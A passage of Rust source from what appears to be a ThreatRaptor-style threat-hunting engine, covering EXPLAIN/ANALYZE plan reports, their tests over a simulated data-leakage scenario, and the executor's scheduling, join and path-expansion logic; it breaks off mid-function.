    /// Total rows the DBM feasible-range clamp excluded, when actuals
    /// are present.
    pub fn total_rows_pruned(&self) -> usize {
        self.actuals
            .as_ref()
            .map(|a| a.patterns.iter().map(|p| p.rows_pruned).sum())
            .unwrap_or(0)
    }

    /// Stable text rendering (the `EXPLAIN [ANALYZE]` output).
    pub fn render(&self) -> String {
        let mut out = String::new();
        let verb = if self.actuals.is_some() {
            "EXPLAIN ANALYZE"
        } else {
            "EXPLAIN"
        };
        writeln!(
            out,
            "{verb} ({}, {} shard{})",
            self.mode.label(),
            self.shards,
            if self.shards == 1 { "" } else { "s" }
        )
        .unwrap();
        out.push_str("query:\n");
        for line in self.tbql.lines() {
            writeln!(out, "  {line}").unwrap();
        }
        out.push_str("schedule:\n");
        for (i, e) in self.entries.iter().enumerate() {
            writeln!(
                out,
                "  {}. {}  {}  score={}  backend={}  fan-out={} shard{}",
                i + 1,
                e.pattern,
                e.shape,
                e.score,
                e.backend,
                e.fanout,
                if e.fanout == 1 { "" } else { "s" }
            )
            .unwrap();
            if let Some((lo, hi)) = e.bounds {
                writeln!(out, "     feasible: [{lo}, {hi}] (DBM-tightened)").unwrap();
            }
            writeln!(out, "     source: {}", e.source).unwrap();
            for (var, pred) in &e.filters {
                writeln!(out, "     filter {var}: {pred}").unwrap();
            }
        }
        if let Some(a) = &self.actuals {
            out.push_str("actuals:\n");
            if let Some(d) = &a.delta {
                writeln!(
                    out,
                    "  delta: fresh-from={} fresh-rows={} carry-rows={} partials {}→{}",
                    d.fresh_from,
                    d.fresh_rows,
                    d.carry_rows,
                    d.carried_partials,
                    d.retained_partials
                )
                .unwrap();
            }
            for (i, p) in a.patterns.iter().enumerate() {
                let shards: Vec<String> = p
                    .shard_rows
                    .iter()
                    .enumerate()
                    .map(|(s, n)| format!("s{s}={n}"))
                    .collect();
                let prop = if p.propagated.is_empty() {
                    "none".to_string()
                } else {
                    p.propagated
                        .iter()
                        .map(|(var, n)| format!("{var}⊆{n}"))
                        .collect::<Vec<_>>()
                        .join(", ")
                };
                writeln!(
                    out,
                    "  {}. {}: rows={} [{}]  pruned={}  propagated={}  join {}→{} ({:.1}%)  {:.3?}",
                    i + 1,
                    p.pattern,
                    p.total_rows(),
                    shards.join(", "),
                    p.rows_pruned,
                    prop,
                    p.join.candidates,
                    p.join.outputs,
                    p.join.selectivity() * 100.0,
                    p.elapsed
                )
                .unwrap();
            }
            writeln!(
                out,
                "stages: scan={:.3?} propagate={:.3?} join={:.3?} project={:.3?} total={:.3?}",
                a.scan, a.propagate, a.join, a.project, a.total
            )
            .unwrap();
            writeln!(out, "matches: {}", a.matches).unwrap();
        }
        out
    }
}

/// Builds the plan-only section of a report.
pub(crate) fn plan_report(
    query: &Query,
    cq: &CompiledQuery,
    mode: ExecMode,
    shards: usize,
) -> ExplainReport {
    // Schedule order: what `run_schedule` will do under this mode.
    let mut order: Vec<&CompiledPattern> = cq.patterns.iter().collect();
    if mode == ExecMode::Scheduled {
        order.sort_by_key(|p| (std::cmp::Reverse(p.score), p.decl_index));
    }
    let entries = order
        .iter()
        .map(|pat| {
            let (shape, backend) = match (&pat.shape, mode) {
                (CompiledShape::Event { ops }, ExecMode::GraphOnly) => {
                    (format!("event[{}]", ops.join("|")), "graph")
                }
                (CompiledShape::Event { ops }, _) => {
                    (format!("event[{}]", ops.join("|")), "relational")
                }
                (
                    CompiledShape::Path {
                        min_hops,
                        max_hops,
                        last_op,
                    },
                    m,
                ) => (
                    format!("path({min_hops}~{max_hops})[{last_op}]"),
                    if m == ExecMode::RelationalOnly {
                        "relational"
                    } else {
                        "graph"
                    },
                ),
            };
            // Compiled patterns keep their declaration index, so the
            // source line is the same position in the parsed query.
            let source = query
                .patterns
                .get(pat.decl_index)
                .map(print_pattern)
                .unwrap_or_default();
            let mut filters = Vec::new();
            for var in [&pat.subject_var, &pat.object_var] {
                if let Some(pred) = cq.var_predicates.get(var) {
                    filters.push((var.clone(), pred.to_sql(var)));
                }
            }
            ExplainEntry {
                pattern: pat.id.clone(),
                source,
                score: pat.score,
                shape,
                backend,
                filters,
                fanout: shards,
                bounds: pat.bounds.map(|b| (b.lo, b.hi)),
            }
        })
        .collect();
    ExplainReport {
        tbql: print_query(query),
        mode,
        shards,
        entries,
        actuals: None,
    }
}

/// Attaches measured execution statistics to a plan report.
pub(crate) fn attach_actuals(report: &mut ExplainReport, stats: &HuntStats, matches: usize) {
    let patterns = stats
        .execution_order
        .iter()
        .map(|id| {
            let find = |pairs: &[(String, Vec<usize>)]| {
                pairs
                    .iter()
                    .find(|(p, _)| p == id)
                    .map(|(_, v)| v.clone())
                    .unwrap_or_default()
            };
            PatternActuals {
                pattern: id.clone(),
                shard_rows: find(&stats.shard_rows),
                propagated: stats
                    .propagated
                    .iter()
                    .find(|(p, _)| p == id)
                    .map(|(_, v)| v.clone())
                    .unwrap_or_default(),
                join: stats
                    .join_stats
                    .iter()
                    .find(|(p, _)| p == id)
                    .map(|(_, j)| *j)
                    .unwrap_or_default(),
                rows_pruned: stats
                    .rows_pruned
                    .iter()
                    .find(|(p, _)| p == id)
                    .map(|(_, n)| *n)
                    .unwrap_or_default(),
                elapsed: stats
                    .pattern_elapsed
                    .iter()
                    .find(|(p, _)| p == id)
                    .map(|(_, d)| *d)
                    .unwrap_or_default(),
            }
        })
        .collect();
    report.actuals = Some(ExplainActuals {
        patterns,
        scan: stats.scan_elapsed(),
        propagate: stats.propagate_elapsed,
        join: stats.join_elapsed,
        project: stats.project_elapsed,
        total: stats.elapsed,
        matches,
        delta: stats.delta,
    });
}

impl<'s> ShardedEngine<'s> {
    /// Renders the compiled plan for `tbql` without executing it.
    pub fn explain(&self, tbql: &str, mode: ExecMode) -> Result<ExplainReport, EngineError> {
        let query = parse_query(tbql)?;
        let analyzed = analyze(&query)?;
        let cq = compile(&analyzed)?;
        Ok(plan_report(&query, &cq, mode, self.store().shard_count()))
    }

    /// Executes `tbql` and returns the result alongside a report whose
    /// actuals come from that same execution — the rows-scanned totals
    /// equal what the engine's metric counters recorded for the hunt.
    pub fn explain_analyze(
        &self,
        tbql: &str,
        mode: ExecMode,
    ) -> Result<(HuntResult, ExplainReport), EngineError> {
        let query = parse_query(tbql)?;
        let analyzed = analyze(&query)?;
        let cq = compile(&analyzed)?;
        let mut report = plan_report(&query, &cq, mode, self.store().shard_count());
        let result = self.execute(&cq, mode)?;
        attach_actuals(&mut report, &result.stats, result.matches.len());
        Ok((result, report))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use threatraptor_audit::sim::scenario::{AttackKind, ScenarioBuilder};
    use threatraptor_storage::sharded::ShardedStore;
    use threatraptor_tbql::parser::FIG2_TBQL;

    fn store(shards: usize) -> ShardedStore {
        let sc = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(5_000)
            .build();
        ShardedStore::ingest(&sc.log, true, shards)
    }

    #[test]
    fn explain_renders_schedule_in_score_order() {
        let store = store(4);
        let engine = ShardedEngine::new(&store);
        let report = engine.explain(FIG2_TBQL, ExecMode::Scheduled).unwrap();
        assert!(report.actuals.is_none());
        assert_eq!(report.shards, 4);
        // Schedule order is descending score (ties by declaration).
        let scores: Vec<i64> = report.entries.iter().map(|e| e.score).collect();
        let mut sorted = scores.clone();
        sorted.sort_by_key(|s| std::cmp::Reverse(*s));
        assert_eq!(scores, sorted);
        let text = report.render();
        assert!(text.starts_with("EXPLAIN ("));
        assert!(text.contains("schedule:"));
        assert!(text.contains("fan-out=4 shards"));
        assert!(!text.contains("actuals:"));
    }

    #[test]
    fn explain_analyze_attaches_consistent_actuals() {
        let store = store(4);
        let engine = ShardedEngine::new(&store);
        let (result, report) = engine
            .explain_analyze(FIG2_TBQL, ExecMode::Scheduled)
            .unwrap();
        let actuals = report.actuals.as_ref().unwrap();
        assert_eq!(actuals.matches, result.matches.len());
        // Per-pattern totals equal the stats' fetched-row counts, and
        // every pattern reports one count per shard.
        for p in &actuals.patterns {
            let fetched = result
                .stats
                .rows_fetched
                .iter()
                .find(|(id, _)| id == &p.pattern)
                .map(|(_, n)| *n)
                .unwrap();
            assert_eq!(p.total_rows(), fetched, "pattern {}", p.pattern);
            assert_eq!(p.shard_rows.len(), 4, "pattern {}", p.pattern);
        }
        assert_eq!(report.total_rows_scanned(), result.stats.total_rows());
        let text = report.render();
        assert!(text.starts_with("EXPLAIN ANALYZE ("));
        assert!(text.contains("actuals:"));
        assert!(text.contains("matches:"));
    }

    #[test]
    fn propagation_and_join_actuals_are_recorded() {
        let store = store(2);
        let engine = ShardedEngine::new(&store);
        let (_, report) = engine
            .explain_analyze(FIG2_TBQL, ExecMode::Scheduled)
            .unwrap();
        let actuals = report.actuals.unwrap();
        // Fig. 2 patterns share variables, so at least one pattern after
        // the first must have received a propagated IN-set filter.
        assert!(
            actuals.patterns[1..]
                .iter()
                .any(|p| !p.propagated.is_empty()),
            "expected constraint propagation on a later pattern"
        );
        // Join selectivities are well-formed.
        for p in &actuals.patterns {
            assert!(p.join.outputs <= p.join.candidates.max(p.join.outputs));
            let s = p.join.selectivity();
            assert!((0.0..=1.0).contains(&s) || p.join.candidates == 0);
        }
    }

    #[test]
    fn explain_surfaces_predicted_bounds_and_pruned_actuals() {
        let store = store(4);
        let engine = ShardedEngine::new(&store);
        // `before` + a window cut at a mid-stream timestamp gives the DBM
        // closure room to tighten e2's range beyond its (absent) window.
        let mid = store.event_at(store.event_count() / 2).start;
        let tbql = format!(
            "proc p read file f as e1 proc p write file g as e2 \
             window [0, {mid}] with e1 before e2 return p, f, g"
        );
        let (result, report) = engine.explain_analyze(&tbql, ExecMode::Scheduled).unwrap();
        // The plan predicts a tightened feasible range for at least one
        // pattern, and the render shows it.
        assert!(
            report.entries.iter().any(|e| e.bounds.is_some()),
            "expected a DBM-tightened entry"
        );
        let text = report.render();
        assert!(text.contains("feasible: ["), "{text}");
        assert!(text.contains("pruned="), "{text}");
        // Actual pruned counts mirror the stats the metric counters were
        // bumped from — equal by construction.
        let actuals = report.actuals.as_ref().unwrap();
        for (id, n) in &result.stats.rows_pruned {
            let p = actuals.patterns.iter().find(|p| &p.pattern == id).unwrap();
            assert_eq!(p.rows_pruned, *n, "pattern {id}");
        }
        assert_eq!(report.total_rows_pruned(), result.stats.total_rows_pruned());
        assert!(report.total_rows_pruned() > 0, "expected pruning to fire");
    }

    #[test]
    fn rows_scanned_accessor_matches_render() {
        let store = store(3);
        let engine = ShardedEngine::new(&store);
        let (_, report) = engine
            .explain_analyze(FIG2_TBQL, ExecMode::Scheduled)
            .unwrap();
        let first = &report.actuals.as_ref().unwrap().patterns[0];
        for shard in 0..3 {
            assert_eq!(
                report.rows_scanned(&first.pattern, shard),
                Some(first.shard_rows[shard])
            );
        }
        assert_eq!(report.rows_scanned("nope", 0), None);
    }
}
