//! The executor: scheduling, constraint propagation, cross-pattern
//! assembly, and the baseline execution modes.

use crate::compile::{compile, CompiledPattern, CompiledQuery, CompiledShape};
use crate::error::EngineError;
use crate::result::{HuntResult, HuntStats, JoinStats, Match};
use std::collections::{HashMap, HashSet};
use std::time::Instant;
use threatraptor_audit::entity::EntityId;
use threatraptor_audit::event::{Event, Operation};
use threatraptor_storage::relational::{Predicate, Value};
use threatraptor_storage::store::AuditStore;
use threatraptor_tbql::analyze::{analyze, AnalyzedQuery};
use threatraptor_tbql::ast::Query;
use threatraptor_tbql::parser::parse_query;

/// Execution strategies. `Scheduled` is ThreatRaptor's; the others are
/// the baselines of the efficiency experiments (E3/E4).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ExecMode {
    /// Pruning-score scheduling with constraint propagation across
    /// patterns connected by shared entities (the paper's §II-F design).
    Scheduled,
    /// Declaration order, every pattern executed independently with only
    /// its own filters (no propagation); independent data queries run in
    /// parallel.
    Unscheduled,
    /// Everything through the relational backend: path patterns are
    /// expanded hop by hop with event-table joins (what plain SQL forces
    /// you into).
    RelationalOnly,
    /// Everything through the graph backend: event patterns scan edges
    /// without relational indexes.
    GraphOnly,
}

impl ExecMode {
    /// Human-readable label (used by the experiment harnesses).
    pub fn label(self) -> &'static str {
        match self {
            ExecMode::Scheduled => "ThreatRaptor (scheduled)",
            ExecMode::Unscheduled => "Unscheduled",
            ExecMode::RelationalOnly => "Relational-only (SQL)",
            ExecMode::GraphOnly => "Graph-only (Cypher)",
        }
    }
}

/// One pattern's data-query output row. Event positions are
/// store-relative: table rows for a single-store [`Engine`], global
/// positions for the sharded executor (which translates shard-local rows
/// before joining).
#[derive(Debug, Clone)]
pub(crate) struct PatternRow {
    pub(crate) subject: EntityId,
    pub(crate) object: EntityId,
    pub(crate) events: Vec<usize>,
    pub(crate) start: u64,
    pub(crate) end: u64,
}

/// The query engine over one audit store.
#[derive(Debug, Clone, Copy)]
pub struct Engine<'s> {
    store: &'s AuditStore,
}

impl<'s> Engine<'s> {
    /// Creates an engine over a store.
    pub fn new(store: &'s AuditStore) -> Engine<'s> {
        Engine { store }
    }

    /// Parses, analyzes, compiles, and executes TBQL source with the
    /// scheduled strategy. Queries the lint pass proves can never match
    /// (temporal infeasibility, contradictory filters) are rejected at
    /// the compile step with [`EngineError::Infeasible`] before any
    /// rows are scanned.
    pub fn hunt(&self, tbql: &str) -> Result<HuntResult, EngineError> {
        self.hunt_mode(tbql, ExecMode::Scheduled)
    }

    /// Like [`Engine::hunt`] with an explicit execution mode.
    pub fn hunt_mode(&self, tbql: &str, mode: ExecMode) -> Result<HuntResult, EngineError> {
        let query = parse_query(tbql)?;
        self.hunt_query(&query, mode)
    }

    /// Executes an already parsed query.
    pub fn hunt_query(&self, query: &Query, mode: ExecMode) -> Result<HuntResult, EngineError> {
        let analyzed = analyze(query)?;
        self.hunt_analyzed(&analyzed, mode)
    }

    /// Executes an analyzed query.
    pub fn hunt_analyzed(
        &self,
        analyzed: &AnalyzedQuery,
        mode: ExecMode,
    ) -> Result<HuntResult, EngineError> {
        let compiled = compile(analyzed)?;
        self.execute(&compiled, mode)
    }

    /// Executes a compiled query.
    pub fn execute(&self, cq: &CompiledQuery, mode: ExecMode) -> Result<HuntResult, EngineError> {
        let mut result = run_schedule(
            cq,
            mode,
            &mut |pat, extra| self.run_pattern(cq, pat, extra, mode),
            &|id, attr| self.store.entity(id).attr(attr),
        );
        // Single-store execution is one pseudo-shard.
        result.stats.shard_rows = result
            .stats
            .rows_fetched
            .iter()
            .map(|(id, n)| (id.clone(), vec![*n]))
            .collect();
        Ok(result)
    }

    /// Runs one pattern's data query.
    pub(crate) fn run_pattern(
        &self,
        cq: &CompiledQuery,
        pat: &CompiledPattern,
        extra: &HashMap<String, Predicate>,
        mode: ExecMode,
    ) -> Vec<PatternRow> {
        match (&pat.shape, mode) {
            (CompiledShape::Event { .. }, ExecMode::GraphOnly) => {
                self.event_via_graph(cq, pat, extra)
            }
            (CompiledShape::Event { .. }, _) => self.event_via_sql(cq, pat, extra),
            (CompiledShape::Path { .. }, ExecMode::RelationalOnly) => {
                self.path_via_sql(cq, pat, extra)
            }
            (CompiledShape::Path { .. }, _) => self.path_via_graph(cq, pat, extra),
        }
    }

    /// Event pattern through the relational backend.
    ///
    /// Access-path selection over the event table's indexes (the paper's
    /// "mature indexing mechanisms"): probe by subject ids, by object
    /// ids, or by operation — whichever is estimated cheapest — then
    /// filter residual conditions. Entity predicates are evaluated once
    /// against the (small) entity tables.
    fn event_via_sql(
        &self,
        cq: &CompiledQuery,
        pat: &CompiledPattern,
        extra: &HashMap<String, Predicate>,
    ) -> Vec<PatternRow> {
        let CompiledShape::Event { ops } = &pat.shape else {
            unreachable!()
        };
        let s_ids = self.entity_filter_set(cq, &pat.subject_var, extra);
        let o_ids = self.entity_filter_set(cq, &pat.object_var, extra);
        if s_ids.is_empty() || o_ids.is_empty() {
            return Vec::new();
        }
        let events = self
            .store
            .db
            .table(threatraptor_storage::store::TABLE_EVENT);
        let op_set: HashSet<Operation> = ops
            .iter()
            .map(|o| o.parse().expect("ops validated"))
            .collect();

        // Estimate each access path by exact index-bucket sizes.
        let probe_cost = |col: &str, ids: &HashSet<EntityId>| -> usize {
            ids.iter()
                .map(|id| {
                    events
                        .index_lookup(col, &[Value::from(id.0)])
                        .map(|v| v.len())
                        .unwrap_or(usize::MAX / 4)
                })
                .sum()
        };
        let op_values: Vec<Value> = ops.iter().map(|o| Value::str(o.as_str())).collect();
        let op_cost = events
            .index_lookup("op", &op_values)
            .map(|v| v.len())
            .unwrap_or(usize::MAX / 4);
        let s_cost = probe_cost("subject", &s_ids);
        let o_cost = probe_cost("object", &o_ids);

        let candidates: Vec<usize> = if s_cost <= o_cost && s_cost <= op_cost {
            s_ids
                .iter()
                .flat_map(|id| {
                    events
                        .index_lookup("subject", &[Value::from(id.0)])
                        .unwrap_or_default()
                })
                .collect()
        } else if o_cost <= op_cost {
            o_ids
                .iter()
                .flat_map(|id| {
                    events
                        .index_lookup("object", &[Value::from(id.0)])
                        .unwrap_or_default()
                })
                .collect()
        } else {
            events.index_lookup("op", &op_values).unwrap_or_default()
        };

        let mut out = Vec::with_capacity(candidates.len() / 4 + 1);
        for pos in candidates {
            let ev = self.store.event_at(pos);
            if !op_set.contains(&ev.op)
                || !s_ids.contains(&ev.subject)
                || !o_ids.contains(&ev.object)
            {
                continue;
            }
            if let Some(w) = pat.window {
                if ev.start < w.lo || ev.end > w.hi {
                    continue;
                }
            }
            out.push(PatternRow {
                subject: ev.subject,
                object: ev.object,
                events: vec![pos],
                start: ev.start,
                end: ev.end,
            });
        }
        out.sort_by_key(|r| r.events[0]);
        out
    }

    /// Event pattern through the graph backend: scan all edges, filter by
    /// operation and endpoint predicates (no relational indexes — the
    /// baseline cost the paper's hybrid design avoids).
    fn event_via_graph(
        &self,
        cq: &CompiledQuery,
        pat: &CompiledPattern,
        extra: &HashMap<String, Predicate>,
    ) -> Vec<PatternRow> {
        let CompiledShape::Event { ops } = &pat.shape else {
            unreachable!()
        };
        let op_set: HashSet<Operation> = ops
            .iter()
            .map(|o| o.parse().expect("ops validated"))
            .collect();
        let s_ok = self.entity_filter_set(cq, &pat.subject_var, extra);
        let o_ok = self.entity_filter_set(cq, &pat.object_var, extra);
        // A graph store has no attribute indexes over edges; it scans.
        // The scan is parallelized across worker threads (crossbeam),
        // as a production graph database would — but only when the edge
        // set is large enough to amortize thread spawns. Small scans run
        // sequentially, which also keeps the sharded executor (which
        // invokes this per shard, possibly from its own worker pool) from
        // stacking a third parallelism layer over tiny slices.
        const PARALLEL_SCAN_THRESHOLD: usize = 65_536;
        let n = self.store.graph.edge_count();
        let workers = if n < PARALLEL_SCAN_THRESHOLD {
            1
        } else {
            std::thread::available_parallelism()
                .map(|p| p.get())
                .unwrap_or(4)
                .clamp(1, 8)
        };
        let chunk = n.div_ceil(workers);
        let mut out: Vec<PatternRow> = crossbeam::thread::scope(|scope| {
            let mut handles = Vec::new();
            for w in 0..workers {
                let (lo, hi) = (w * chunk, ((w + 1) * chunk).min(n));
                let op_set = &op_set;
                let s_ok = &s_ok;
                let o_ok = &o_ok;
                handles.push(scope.spawn(move |_| {
                    let mut local = Vec::new();
                    for idx in lo..hi {
                        let edge = self.store.graph.edge(idx);
                        if !op_set.contains(&edge.op) {
                            continue;
                        }
                        if let Some(w) = pat.window {
                            if edge.start < w.lo || edge.end > w.hi {
                                continue;
                            }
                        }
                        if !s_ok.contains(&edge.src) || !o_ok.contains(&edge.dst) {
                            continue;
                        }
                        local.push(PatternRow {
                            subject: edge.src,
                            object: edge.dst,
                            events: vec![edge.event_pos],
                            start: edge.start,
                            end: edge.end,
                        });
                    }
                    local
                }));
            }
            handles
                .into_iter()
                .flat_map(|h| h.join().expect("scan worker panicked"))
                .collect()
        })
        .expect("crossbeam scope");
        out.sort_by_key(|r| r.events[0]);
        out
    }

    /// Path pattern through the graph backend.
    fn path_via_graph(
        &self,
        cq: &CompiledQuery,
        pat: &CompiledPattern,
        extra: &HashMap<String, Predicate>,
    ) -> Vec<PatternRow> {
        let pq = cq.path_plan(pat, self.store, extra);
        pq.search(&self.store.graph)
            .into_iter()
            .map(|p| {
                let first = self.store.graph.edge(p.edges[0]);
                let last = self.store.graph.edge(*p.edges.last().expect("non-empty"));
                PatternRow {
                    subject: first.src,
                    object: last.dst,
                    events: p
                        .edges
                        .iter()
                        .map(|&e| self.store.graph.edge(e).event_pos)
                        .collect(),
                    start: first.start,
                    end: last.end,
                }
            })
            .collect()
    }

    /// Path pattern through the relational backend: hop-by-hop frontier
    /// expansion with event-table index lookups — the join cascade a pure
    /// SQL backend would execute.
    fn path_via_sql(
        &self,
        cq: &CompiledQuery,
        pat: &CompiledPattern,
        extra: &HashMap<String, Predicate>,
    ) -> Vec<PatternRow> {
        let srcs = self.entity_filter_set(cq, &pat.subject_var, extra);
        let dsts = self.entity_filter_set(cq, &pat.object_var, extra);
        let events_table = self
            .store
            .db
            .table(threatraptor_storage::store::TABLE_EVENT);
        expand_paths(
            pat,
            &srcs,
            &dsts,
            &|node| {
                // SELECT * FROM event WHERE subject = node (index probe).
                events_table
                    .index_lookup("subject", &[Value::from(node.0)])
                    .unwrap_or_default()
            },
            &|pos| self.store.event_at(pos),
        )
    }

    /// Entity ids satisfying a variable's merged predicate.
    pub(crate) fn entity_filter_set(
        &self,
        cq: &CompiledQuery,
        var: &str,
        extra: &HashMap<String, Predicate>,
    ) -> HashSet<EntityId> {
        entity_filter_set_in(self.store.db.table(cq.var_tables[var]), cq, var, extra)
    }
}

/// Entity ids in `table` satisfying `var`'s compiled predicate merged
/// with any propagated extra filter — the one resolution routine behind
/// every executor's entity filtering. The caller picks the table: the
/// single-store [`Engine`] and the path planner probe their store's
/// catalog, the sharded executor the store-level shared entity tables.
pub(crate) fn entity_filter_set_in(
    table: &threatraptor_storage::relational::Table,
    cq: &CompiledQuery,
    var: &str,
    extra: &HashMap<String, Predicate>,
) -> HashSet<EntityId> {
    let mut legs = vec![cq.var_predicates[var].clone()];
    if let Some(p) = extra.get(var) {
        legs.push(p.clone());
    }
    let pred = Predicate::and(legs);
    table
        .select(&pred)
        .into_iter()
        .map(|rid| EntityId(table.cell(rid, "id").as_int().expect("id column") as u32))
        .collect()
}

/// One pattern's data query as seen by the scheduling driver: pattern +
/// propagated per-variable filters in, rows out.
pub(crate) type PatternFetch<'a> =
    dyn FnMut(&CompiledPattern, &HashMap<String, Predicate>) -> Vec<PatternRow> + 'a;

/// The scheduling driver (paper §II-F): pruning-score ordering,
/// cross-pattern constraint propagation, join, and projection. The store
/// only enters through the two closures — `fetch` answers one pattern's
/// data query (single-table for [`Engine`], scatter-gather for the
/// sharded executor) and `entity_attr` resolves projections — so the
/// single-store and sharded executors share this logic verbatim rather
/// than maintaining two copies of it.
pub(crate) fn run_schedule(
    cq: &CompiledQuery,
    mode: ExecMode,
    fetch: &mut PatternFetch<'_>,
    entity_attr: &dyn Fn(EntityId, &str) -> Option<String>,
) -> HuntResult {
    let t0 = Instant::now();
    let mut stats = HuntStats::default();

    // Execution order.
    let mut order: Vec<&CompiledPattern> = cq.patterns.iter().collect();
    if mode == ExecMode::Scheduled {
        order.sort_by_key(|p| (std::cmp::Reverse(p.score), p.decl_index));
    }

    let mut partial: Option<Vec<Match>> = None;
    for pat in &order {
        // Constraint propagation (scheduled mode only): bindings from
        // already-executed patterns become IN-set filters on shared
        // variables.
        let mut extra: HashMap<String, Predicate> = HashMap::new();
        let mut propagated: Vec<(String, usize)> = Vec::new();
        if mode == ExecMode::Scheduled {
            let t_prop = Instant::now();
            if let Some(ms) = &partial {
                for var in [&pat.subject_var, &pat.object_var] {
                    let ids: HashSet<Value> = ms
                        .iter()
                        .filter_map(|m| m.bindings.get(var))
                        .map(|e| Value::from(e.0))
                        .collect();
                    if !ids.is_empty() {
                        propagated.push((var.clone(), ids.len()));
                        extra.insert(var.clone(), Predicate::InSet("id".into(), ids));
                    }
                }
            }
            stats.propagate_elapsed += t_prop.elapsed();
        }

        let t_fetch = Instant::now();
        let rows = fetch(pat, &extra);
        stats.execution_order.push(pat.id.clone());
        stats.rows_fetched.push((pat.id.clone(), rows.len()));
        stats.propagated.push((pat.id.clone(), propagated));
        stats
            .pattern_elapsed
            .push((pat.id.clone(), t_fetch.elapsed()));

        let t_join = Instant::now();
        let candidates = match &partial {
            Some(ms) => ms.len() * rows.len(),
            None => rows.len(),
        };
        partial = Some(join_rows(cq, partial, rows, pat));
        stats.join_stats.push((
            pat.id.clone(),
            JoinStats {
                candidates,
                outputs: partial.as_ref().map_or(0, Vec::len),
            },
        ));
        stats.join_elapsed += t_join.elapsed();
        if partial.as_ref().is_some_and(Vec::is_empty) {
            // No match can exist; still record remaining patterns as
            // skipped with zero rows for the stats.
            break;
        }
    }

    let matches = partial.unwrap_or_default();
    let t_project = Instant::now();
    let (columns, rows) = project_matches(cq, &matches, entity_attr);
    stats.project_elapsed = t_project.elapsed();
    stats.elapsed = t0.elapsed();
    HuntResult {
        columns,
        rows,
        matches,
        stats,
    }
}

/// Joins a pattern's rows into the partial match set, enforcing
/// shared-entity equality and all decidable temporal constraints.
/// Free function (not a method): the sharded executor joins globally
/// after gathering rows from every shard, using the same code path.
pub(crate) fn join_rows(
    cq: &CompiledQuery,
    partial: Option<Vec<Match>>,
    rows: Vec<PatternRow>,
    pat: &CompiledPattern,
) -> Vec<Match> {
    let same_var = pat.subject_var == pat.object_var;
    let rows: Vec<PatternRow> = rows
        .into_iter()
        .filter(|r| !same_var || r.subject == r.object)
        .collect();

    let Some(partial) = partial else {
        return rows
            .into_iter()
            .map(|r| {
                let mut bindings = HashMap::new();
                bindings.insert(pat.subject_var.clone(), r.subject);
                bindings.insert(pat.object_var.clone(), r.object);
                let mut events = HashMap::new();
                events.insert(pat.id.clone(), r.events);
                let mut times = HashMap::new();
                times.insert(pat.id.clone(), (r.start, r.end));
                Match {
                    bindings,
                    events,
                    times,
                }
            })
            .collect();
    };

    let mut out = Vec::new();
    for m in &partial {
        for r in &rows {
            // Shared-variable equality.
            if let Some(&b) = m.bindings.get(&pat.subject_var) {
                if b != r.subject {
                    continue;
                }
            }
            if let Some(&b) = m.bindings.get(&pat.object_var) {
                if b != r.object {
                    continue;
                }
            }
            // Temporal constraints involving this pattern.
            let ok = cq.before.iter().all(|(a, b)| {
                let ta = if a == &pat.id {
                    Some((r.start, r.end))
                } else {
                    m.times.get(a).copied()
                };
                let tb = if b == &pat.id {
                    Some((r.start, r.end))
                } else {
                    m.times.get(b).copied()
                };
                match (ta, tb) {
                    (Some(x), Some(y)) => x.1 < y.0,
                    _ => true, // undecidable yet
                }
            });
            if !ok {
                continue;
            }
            let mut nm = m.clone();
            nm.bindings.insert(pat.subject_var.clone(), r.subject);
            nm.bindings.insert(pat.object_var.clone(), r.object);
            nm.events.insert(pat.id.clone(), r.events.clone());
            nm.times.insert(pat.id.clone(), (r.start, r.end));
            out.push(nm);
        }
    }
    out
}

/// Projects matches into the result table. The entity lookup is a closure
/// so the single-store and sharded executors can project through their
/// respective stores.
pub(crate) fn project_matches(
    cq: &CompiledQuery,
    matches: &[Match],
    entity_attr: &dyn Fn(EntityId, &str) -> Option<String>,
) -> (Vec<String>, Vec<Vec<String>>) {
    let columns: Vec<String> = cq
        .returns
        .iter()
        .map(|(var, attr)| format!("{var}.{attr}"))
        .collect();
    let mut rows: Vec<Vec<String>> = matches
        .iter()
        .map(|m| {
            cq.returns
                .iter()
                .map(|(var, attr)| {
                    entity_attr(m.bindings[var], attr).unwrap_or_else(|| "<none>".into())
                })
                .collect()
        })
        .collect();
    if cq.distinct {
        rows.sort();
        rows.dedup();
    }
    (columns, rows)
}

/// Safety cap on enumerated paths — the single source for both path
/// executors: [`CompiledQuery::path_plan`] feeds it into the graph
/// backend's `PathQuery::max_matches`, and [`expand_paths`] enforces it
/// directly. Dense graphs make path counts combinatorial, and an
/// uncapped expansion is an unbounded memory/time sink in a multi-tenant
/// service.
pub(crate) const MAX_PATH_MATCHES: usize = 100_000;

/// Hop-by-hop frontier expansion of a variable-length path pattern over an
/// abstract event index: `subject_index` answers "positions of events with
/// this subject" and `event_at` resolves a position. The single-store
/// executor backs these with one event table; the sharded executor merges
/// every shard's index probes into global positions — giving identical
/// path semantics whether the events live in one store or many. Output is
/// truncated at [`MAX_PATH_MATCHES`], like the graph backend.
pub(crate) fn expand_paths<'a>(
    pat: &CompiledPattern,
    srcs: &HashSet<EntityId>,
    dsts: &HashSet<EntityId>,
    subject_index: &dyn Fn(EntityId) -> Vec<usize>,
    event_at: &dyn Fn(usize) -> &'a Event,
) -> Vec<PatternRow> {
    let CompiledShape::Path {
        min_hops,
        max_hops,
        last_op,
    } = &pat.shape
    else {
        unreachable!()
    };
    let last_op: Operation = last_op.parse().expect("ops validated");
    // No source or no admissible destination means no path can ever
    // complete — skip the (potentially combinatorial) expansion entirely,
    // like the event-pattern executors do for empty entity sets.
    if srcs.is_empty() || dsts.is_empty() {
        return Vec::new();
    }

    // Partial path state: (current node, first start, last end, hops).
    #[derive(Clone)]
    struct PartialPath {
        node: EntityId,
        start: u64,
        end: u64,
        events: Vec<usize>,
    }
    // Sorted sources keep the expansion order (and any truncated subset)
    // deterministic; HashSet iteration order is not.
    let mut sources: Vec<EntityId> = srcs.iter().copied().collect();
    sources.sort_unstable_by_key(|e| e.0);
    let mut frontier: Vec<PartialPath> = sources
        .into_iter()
        .map(|n| PartialPath {
            node: n,
            start: 0,
            end: 0,
            events: Vec::new(),
        })
        .collect();
    let mut out = Vec::new();
    'expansion: for hop in 1..=*max_hops {
        let mut next = Vec::new();
        for p in &frontier {
            // SELECT * FROM event WHERE subject = p.node AND start >= p.end
            for rid in subject_index(p.node) {
                let ev = event_at(rid);
                if !p.events.is_empty() && ev.start < p.end {
